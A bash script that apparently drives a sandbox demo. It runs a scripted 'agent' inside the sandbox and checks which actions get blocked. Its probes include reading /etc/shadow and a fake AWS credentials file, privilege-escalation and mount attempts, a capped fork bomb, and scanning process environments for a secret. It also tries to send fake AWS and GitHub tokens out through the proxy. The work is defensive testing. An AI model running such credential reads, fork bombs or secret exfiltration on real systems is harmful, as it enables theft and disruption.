#!/bin/bash
# The demo's scripted "agent".  demo/run.sh copies it into a throw-away
# project, so inside the bottle it is /workspace/agent.sh, and runs it with
#
#   bash /workspace/agent.sh COLOR HOST_PORT HOST_HOME REAL_HOME API_PORT
#
# COLOR      1 to use colours (the bottle does not pass NO_COLOR through)
# HOST_PORT  a TCP port run.sh listens on, on the host's 127.0.0.1
# HOST_HOME  the demo user's home on the host (holds a fake ~/.aws/credentials)
# REAL_HOME  the home of whoever ran the demo
# API_PORT   the demo API's port: https://api.demo.test:API_PORT, reached
#            only through the bundle's proxy
#
# It tries one thing per line and says whether the bottle allowed it.  The
# exit status is the number of surprises: something that should have been
# blocked was allowed, or something that should work did not.  Every step is
# bounded: nothing here can hang, and nothing sends a packet anywhere but
# the bottle's own loopback.

COLOR=${1:-0}
HOST_PORT=${2:-1}
HOST_HOME=${3:-/nonexistent}
REAL_HOME=${4:-/nonexistent}
API_PORT=${5:-1}

exec 2>&1
export LC_ALL=C

if [ -z "${BOTTLE_ID:-}" ] || [ ! -d /workspace ]; then
	echo "agent.sh: meant to run inside a bottle; demo/run.sh does that" >&2
	exit 2
fi

if [ "$COLOR" = 1 ]; then
	G=$'\e[32m' R=$'\e[31m' D=$'\e[2m' B=$'\e[1m' N=$'\e[0m'
else
	G='' R='' D='' B='' N=''
fi

surprises=0
n_allowed=0
n_blocked=0

allowed() { # WHAT DETAIL
	n_allowed=$((n_allowed + 1))
	printf '  %s✔ allowed%s  %-38s %s%s%s\n' "$G" "$N" "$1" "$D" "$2" "$N"
}
blocked() { # WHAT DETAIL
	n_blocked=$((n_blocked + 1))
	printf '  %s✘ blocked%s  %-38s %s%s%s\n' "$G" "$N" "$1" "$D" "$2" "$N"
}
leak() { # WHAT DETAIL: should have been blocked, was not
	surprises=$((surprises + 1))
	printf '  %s%s!! LEAK  %s  %-38s %s\n' "$R" "$B" "$N" "$1" "$2"
}
broken() { # WHAT DETAIL: should have worked, did not
	surprises=$((surprises + 1))
	printf '  %s%s!! FAILED%s  %-38s %s\n' "$R" "$B" "$N" "$1" "$2"
}

# The reason in an error message: the end of its first line, after the
# last ": " ("cat: /etc/shadow: No such file or directory").
reason() {
	local msg
	msg=$(printf '%s\n' "$1" | sed -n '/./{p;q;}')
	case $msg in
	curl:\ \(*\)\ *) msg=${msg#*) } msg=${msg%%:*} ;; # "Could not resolve host"
	*) msg=${msg##*: } ;;
	esac
	printf '%s' "${msg:-failed}"
}

# expect_blocked WHAT CMD...: CMD must fail.
expect_blocked() {
	local what=$1 out
	shift
	if out=$(timeout 5 "$@" 2>&1 </dev/null); then
		leak "$what" "it worked: $(printf '%s' "$out" | head -c 60)"
	else
		blocked "$what" "$(reason "$out")"
	fi
}

echo "${B}inside:${N} $(id -un) (uid $(id -u)) in $PWD, bottle ${BOTTLE_ID:-?}," \
	"HOME=$HOME"
echo

# --- what the agent may do ----------------------------------------------
echo "${B}work on the project${N}"

if printf '\nEdited by the demo agent inside bottle %s.\n' "${BOTTLE_ID:-?}" \
	>>/workspace/README.md 2>/dev/null; then
	allowed "edit /workspace/README.md" "the bottle's copy; host side checked below"
else
	broken "edit /workspace/README.md" "could not write"
fi

git_out=$(cd /workspace &&
	git -c user.name="demo agent" -c user.email=agent@bottle.invalid \
		commit -q -am "agent: note in README" 2>&1 &&
	git log --oneline | wc -l)
if [ $? -eq 0 ]; then
	allowed "git commit in /workspace" "$git_out commits in the copy"
else
	broken "git commit in /workspace" "$(reason "$git_out")"
fi

if echo "written by bottle ${BOTTLE_ID:-?} on $(date -u +%FT%TZ)" \
	>>"$HOME/notes.txt" 2>/dev/null; then
	allowed "write \$HOME/notes.txt" "$HOME persists in the bottle's state dir"
else
	broken "write \$HOME/notes.txt" "could not write"
fi

if echo scratch >/tmp/scratch 2>/dev/null; then
	allowed "write /tmp" "a private tmpfs, gone when the bottle stops"
else
	broken "write /tmp" "could not write"
fi
echo

# --- what stays out of reach ---------------------------------------------
echo "${B}host files${N}"

expect_blocked "read /etc/shadow" cat /etc/shadow
expect_blocked "read the host's ~/.aws/credentials" \
	cat "$HOST_HOME/.aws/credentials"
if [ "$REAL_HOME" != / ]; then
	expect_blocked "list your home ($REAL_HOME)" ls -A "$REAL_HOME"
fi
if [ "$REAL_HOME" != /root ]; then
	expect_blocked "list /root" ls -A /root
fi
# Only ever a new, empty file, removed at once if the write went through.
if out=$(touch /usr/bin/demo-agent-was-here 2>&1); then
	rm -f /usr/bin/demo-agent-was-here
	leak "write to /usr/bin" "created /usr/bin/demo-agent-was-here"
else
	blocked "write to /usr/bin" "$(reason "$out")"
fi
# Opened for appending, nothing written: harmless even where it works.
expect_blocked "open /etc/passwd for writing" sh -c ': >>/etc/passwd'
echo

echo "${B}processes and privileges${N}"

# run.sh's host listener carries this word on its command line.
nprocs=$(ps -e --no-headers 2>/dev/null | wc -l)
if ps -eo args= 2>/dev/null | grep -q '[b]ottle-demo-host-listener'; then
	leak "see host processes" "ps shows the host's listener"
elif [ "$nprocs" -gt 0 ] && [ "$nprocs" -lt 20 ]; then
	blocked "see host processes" \
		"ps sees $nprocs: $(ps -eo comm= | paste -sd ' ')"
else
	leak "see host processes" "ps sees $nprocs processes"
fi

nnp=$(awk '/^NoNewPrivs:/ {print $2}' /proc/self/status)
capeff=$(awk '/^CapEff:/ {print $2}' /proc/self/status)
if command -v sudo >/dev/null 2>&1; then
	expect_blocked "sudo" sudo -n true
fi
if out=$(timeout 5 su -c true root 2>&1 </dev/null); then
	leak "su to root" "it worked"
elif [ "$nnp" = 1 ] && [ "$capeff" = 0000000000000000 ]; then
	blocked "su / sudo / setuid programs" \
		"$(reason "$out"); no_new_privs, no capabilities"
else
	leak "su / sudo / setuid programs" \
		"su failed, but NoNewPrivs=$nnp CapEff=$capeff"
fi

expect_blocked "new namespaces (unshare -U)" unshare -U true
mkdir -p /tmp/mnt
if out=$(timeout 5 mount -t tmpfs demo /tmp/mnt 2>&1 </dev/null); then
	umount /tmp/mnt
	leak "mount a filesystem" "mounted a tmpfs on /tmp/mnt"
else
	blocked "mount a filesystem" "$(reason "$out")"
fi

# A fork bomb with a ceiling: at most 300 sleepers, all killed right after.
# dash (and busybox sh) give up at the first failed fork; bash retries for
# about 15 s first, so it is the last resort.  While the sleepers live, this
# shell cannot fork either: counting, killing and waiting use builtins only.
rm -f /tmp/forks /tmp/never
mkfifo /tmp/never && exec 9<>/tmp/never
: >/tmp/forks
bomb='i=0; while [ $i -lt 300 ]; do
	sleep 30 >/dev/null 2>&1 </dev/null 9<&- & echo $! >>/tmp/forks
	i=$((i + 1)); done'
if command -v dash >/dev/null 2>&1; then
	dash -c "$bomb" >/dev/null 2>&1
elif command -v busybox >/dev/null 2>&1; then
	busybox sh -c "$bomb" >/dev/null 2>&1
else
	bash -c "$bomb" >/dev/null 2>&1
fi
mapfile -t sleepers </tmp/forks
forks=${#sleepers[@]}
kill "${sleepers[@]}" 2>/dev/null
# The bottle's init reaps them; wait (up to 5 s) until it has.
for ((k = 0; k < 50; k++)); do
	alive=0
	for p in "${sleepers[@]}"; do
		[ -e "/proc/$p" ] && alive=1 && break
	done
	[ "$alive" = 0 ] && break
	read -r -t 0.1 -u 9 _
done
exec 9<&-
if [ "$forks" -lt 300 ]; then
	blocked "fork bomb (300 processes)" "fork refused after $forks"
else
	leak "fork bomb (300 processes)" "all 300 started: no pids limit"
fi
echo

echo "${B}network and secrets${N}"

ifaces=$(awk 'NR > 2 { sub(":", "", $1); print $1 }' /proc/net/dev | tr '\n' ' ')
routes=$(awk 'NR > 1' /proc/net/route | wc -l)
if [ "$ifaces" = "lo " ] && [ "$routes" = 0 ]; then
	blocked "network interfaces and routes" "only lo, no route"
else
	leak "network interfaces and routes" "interfaces: $ifaces; $routes routes"
fi

# The host is listening on its 127.0.0.1:HOST_PORT; the bottle's 127.0.0.1
# is its own loopback.
if out=$(timeout 5 bash -c 'exec 3<>"/dev/tcp/127.0.0.1/$1" && head -n 1 <&3' \
	_ "$HOST_PORT" 2>&1); then
	leak "connect to the host's 127.0.0.1:$HOST_PORT" "got: $out"
else
	blocked "connect to the host's 127.0.0.1:$HOST_PORT" "$(reason "$out")"
fi

if out=$(timeout 5 getent hosts example.com 2>&1); then
	leak "DNS lookup of example.com" "got: $out"
else
	blocked "DNS lookup of example.com" \
		"no answer; $(grep -c '^nameserver' /etc/resolv.conf) nameservers"
	# No name service, and the proxy refuses hosts off the allowlist.
	if command -v curl >/dev/null 2>&1; then
		expect_blocked "curl https://example.com" \
			curl -sS -m 3 -o /dev/null https://example.com
	fi
fi

# run.sh exported AWS_SECRET_ACCESS_KEY=demo-secret-... on the host.
found=$(env | grep -c '^AWS_SECRET_ACCESS_KEY=')
scanned=0
for f in /proc/[0-9]*/environ; do
	env_text=$(tr '\0' '\n' 2>/dev/null <"$f") || continue
	scanned=$((scanned + 1))
	case $env_text in *demo-secret-*) found=$((found + 1)) ;; esac
done
if [ "$found" = 0 ]; then
	blocked "see \$AWS_SECRET_ACCESS_KEY" \
		"not in any environment here ($scanned readable)"
else
	leak "see \$AWS_SECRET_ACCESS_KEY" "found in $found environment(s)"
fi
echo

echo "${B}the way out: the bundle's proxy at ${HTTPS_PROXY:-?}${N}"
api=https://api.demo.test:$API_PORT
if out=$(curl -sS -m 10 -H "Authorization: Bearer $DEMO_API_TOKEN" "$api/hello" 2>&1) &&
	[ "${out#*real token}" != "$out" ]; then
	allowed "call the API with \$DEMO_API_TOKEN" "\$DEMO_API_TOKEN=$DEMO_API_TOKEN; $out"
else
	broken "call the API with \$DEMO_API_TOKEN" "$out"
fi
key=AKIA$(printf 'DEMO%.0s' 1 2 3 4)
out=$(curl -s -m 10 "$api/upload?aws_key=$key" 2>&1)
if [ "${out#*blocked}" != "$out" ]; then
	blocked "send an AWS key in a URL" "${out#bottle: }"
else
	leak "send an AWS key in a URL" "$out"
fi
b64=$(printf 'ghp_%s' "$(printf 'x%.0s' $(seq 36))" | base64 -w0)
out=$(curl -s -m 10 --data "blob=$b64" "$api/upload" 2>&1)
if [ "${out#*blocked}" != "$out" ]; then
	blocked "POST a base64-encoded GitHub token" "${out#bottle: }"
else
	leak "POST a base64-encoded GitHub token" "$out"
fi
echo

if [ "$surprises" = 0 ]; then
	echo "${B}agent:${N} $n_allowed allowed, $n_blocked blocked, nothing leaked"
else
	echo "${R}${B}agent: $surprises surprise(s)${N}"
fi
exit $((surprises > 100 ? 100 : surprises))
